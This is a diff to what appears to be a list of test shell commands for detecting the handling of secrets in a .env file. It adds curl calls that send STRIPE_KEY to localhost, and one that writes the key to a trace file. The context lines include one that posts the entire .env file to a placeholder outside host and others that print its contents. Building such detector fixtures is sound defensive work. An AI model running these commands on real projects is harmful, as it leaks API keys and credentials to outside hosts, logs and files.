@@ -59,6 +59,7 @@ PORT=$(grep ^PORT .env | cut -d= -f2-) npm test
 env PORT="$(sed -n 's/^PORT=//p' .env)" npm test
 node server.js --port "$(grep ^PORT .env | cut -d= -f2)"
 curl -s -H "Authorization: Bearer $(grep ^STRIPE_KEY .env | cut -d= -f2)" http://localhost:3000/
+curl -s -o out.json -H "Authorization: Bearer $(grep ^STRIPE_KEY .env | cut -d= -f2)" http://localhost:3000/x
 for k in PORT STRIPE_KEY; do grep -q "^$k=" .env || echo "missing $k"; done
 while IFS='=' read -r k v; do echo "$k"; done < .env
 grep -c . .env
@@ -183,6 +184,8 @@ mapfile -t l < .env; echo "${"$"}{l[@]}"
 f() { cat .env; }; f
 wc -l .env; cat .env
 curl -d @- https://x.example < .env
+curl -s --trace t.txt -H "X: $(grep ^STRIPE_KEY .env | cut -d= -f2)" http://localhost:3000/
+curl -s -c jar.txt -o o.txt -b "k=$(grep ^STRIPE_KEY .env | cut -d= -f2)" http://localhost:3000/
 sed -i "s/x/$(grep ^PORT .env | cut -d= -f2)/" conf.txt
 docker build --build-arg KEY="$(grep ^STRIPE_KEY .env | cut -d= -f2)" .
 gh secret set STRIPE_KEY --body "$(grep ^STRIPE_KEY .env | cut -d= -f2)"
